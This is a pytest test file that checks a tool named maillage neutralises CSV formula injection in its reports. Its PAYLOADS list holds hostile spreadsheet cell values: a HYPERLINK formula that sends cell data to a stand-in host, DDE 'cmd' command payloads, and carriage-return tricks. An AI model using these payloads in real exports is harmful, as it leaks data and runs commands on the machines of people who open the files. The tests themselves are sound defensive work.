"""Fault corpus, CSV formula injection: no CSV cell written by maillage starts a formula."""

from __future__ import annotations

import csv
import io
import re

import pandas as pd
import pytest

from maillage.cli import main
from maillage.prepare.toy import toy_territory
from maillage.report import write_report
from maillage.report.formulas import FORMULA_STARTS, neutralise_cell, neutralise_formulas
from maillage.travel import CrowFlyModel

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"id")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "Le Lieu\r=1+1",
    "\r=1+1",
    "=1+1\n=2+2",
    "-",
    "+",
]
NUMBERS = ["-3", "+33", "-1.5", "-1,5", "+2e3", "-.5"]
_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?")


def _live_cells(data: bytes) -> list[str]:
    """Cells of a CSV that a spreadsheet would run as a formula (French CSV: BOM and ;)."""
    french = data.startswith(b"\xef\xbb\xbf")
    text = io.StringIO(data.decode("utf-8-sig"), newline="")
    rows = csv.reader(text, delimiter=";" if french else ",")
    return [
        cell
        for row in rows
        for cell in row
        if cell.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(cell)
    ]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_each_payload_is_neutralised(payload):
    cell = neutralise_cell(payload)
    assert not cell.startswith(FORMULA_STARTS) and "\r" not in cell
    assert cell.removeprefix("'") == payload.replace("\r", "\n")  # nothing else changes


def test_a_carriage_return_inside_a_cell_cannot_start_a_new_cell():
    frame = pd.DataFrame({"name": ["Le Lieu\r=HYPERLINK(1)", "x\r\n@A1"]})
    assert _live_cells(frame.to_csv(lineterminator="\n").encode())  # the danger
    assert _live_cells(neutralise_formulas(frame).to_csv(lineterminator="\n").encode()) == []


@pytest.mark.parametrize("number", NUMBERS)
def test_numbers_are_left_alone(number):
    assert neutralise_cell(number) == number


def test_every_text_place_of_a_table_is_neutralised():
    frame = pd.DataFrame(
        {
            "=col": PAYLOADS,
            "kind": pd.Categorical(PAYLOADS),
            "text": pd.array(PAYLOADS, dtype="string"),
            "n": range(-5, len(PAYLOADS) - 5),
        },
        index=pd.MultiIndex.from_arrays([PAYLOADS, range(len(PAYLOADS))], names=["@id", "i"]),
    )
    before = frame.copy()
    data = neutralise_formulas(frame).to_csv().encode()
    assert _live_cells(data) == []
    pd.testing.assert_frame_equal(frame, before)  # the input is not modified
    assert _live_cells(frame.to_csv().encode())  # the corpus does hold live cells


def test_report_csvs_carry_no_formula(tmp_path):
    communes, venues = toy_territory()
    venues = venues.copy()
    venues["venue_id"] = PAYLOADS[: len(venues)]
    venues["name"] = PAYLOADS[-len(venues) :]
    out = write_report(tmp_path / "r", communes=communes, venues=venues, model=CrowFlyModel())
    written = {p.name: p.read_bytes() for p in out.glob("*.csv")}
    assert "communes.csv" in written
    assert b"'=" in written["communes.csv"] or b"'+" in written["communes.csv"]
    assert {name: _live_cells(data) for name, data in written.items()} == {
        name: [] for name in written
    }


def test_cli_report_from_a_census_of_payloads(tmp_path, capsys):
    rows = [
        {
            "name": payload,
            "id": payload,
            "kind": payload,
            "latitude": 48.85 + i / 1000,
            "longitude": 2.35,
        }
        for i, payload in enumerate(PAYLOADS)
    ]
    census = tmp_path / "payloads.csv"
    pd.DataFrame(rows).to_csv(census, index=False)
    out = tmp_path / "paris"
    code = main(["-q", "report", "--venues", str(census), "--departement", "75", "--out", str(out)])
    assert code == 0, capsys.readouterr().err
    written = {p.name: p.read_bytes() for p in out.glob("*.csv")}
    assert b"'" in written["communes.csv"]  # a payload reached the table, neutralised
    assert {name: _live_cells(data) for name, data in written.items()} == {
        name: [] for name in written
    }
